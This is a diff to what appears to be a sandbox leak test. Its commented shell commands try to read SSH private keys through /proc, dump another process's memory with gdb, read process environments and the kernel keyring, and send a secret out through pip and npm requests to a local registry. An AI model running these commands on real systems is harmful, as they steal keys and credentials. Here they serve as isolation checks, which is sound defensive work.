@@ -102,10 +102,7 @@ ln -s ~/.ssh keys && cat keys/id_ed25519
 # a key through the root of another process
 cat /proc/$CANARY/root"$HOME"/.ssh/id_ed25519
 
-# a key through the directory of another process
-cat /proc/$CANARY/cwd/.ssh/id_ed25519
-
-# a key through the first process
+#! a key through the first process
 cat /proc/1/root"$HOME"/.ssh/id_ed25519
 
 # an open file of another process
@@ -122,9 +119,6 @@ tr '\0' ' ' < /proc/$CANARY/cmdline
 
 # the command lines of all processes [ps]
 ps axww -o args
-
-# the memory of another process by the debugger [gdb]
-timeout 8 gdb -batch -nx -p "$CANARY" -ex 'info proc mappings' -ex 'dump memory core.bin $sp $sp+65536'; cat core.bin
 
 # a core of another process [gdb]
 timeout 8 gdb -batch -nx -p "$CANARY" -ex 'gcore core.all'; tr -c '[:print:]' '\n' < core.all | grep corpus
@@ -145,10 +139,10 @@ PY
 # the environment of the gateway
 env
 
-# the environment of the gateway by its process
+#! the environment of the gateway by its process
 tr '\0' '\n' < /proc/$PPID/environ
 
-# the environment of the gateway by the runner
+#! the environment of the gateway by the runner
 tr '\0' '\n' < /proc/$RUNNER/environ
 
 # a secret of other programs in the shared directory for temporary files
@@ -178,7 +172,7 @@ libc.msgrcv(int(os.environ["QUEUE"]), buffer, 200, 0, 0o4000)
 print(buffer.raw[8:])
 PY
 
-# a key in the keyring of the kernel
+#! a key in the keyring of the kernel
 python3 - <<'PY'
 import ctypes, os
 libc = ctypes.CDLL(None)
@@ -216,12 +210,6 @@ timeout 3 python3 -m pip -q --disable-pip-version-check download --retries 0 --t
 
 # a package of node is asked for by its name [npm]
 timeout 3 npm view stolen-data --registry "http://127.0.0.1:$PORT/" --fetch-retries 0 --fetch-timeout 500 > /dev/null; true
-
-# a connection that the command was not started with
-for fd in /proc/$$/fd/*; do readlink $fd; done; cat <&3; cat <&4; cat <&5; true
-
-# a secret by an error message
-bash ~/.netrc; . ~/.aws/credentials; true
 
 # a secret by the name of a file
 ls -R ~/.password-store ~/.ssh; touch "$(cat ~/.ssh/id_ed25519 | head -c 40 | tr '/ \n' '___')"; ls
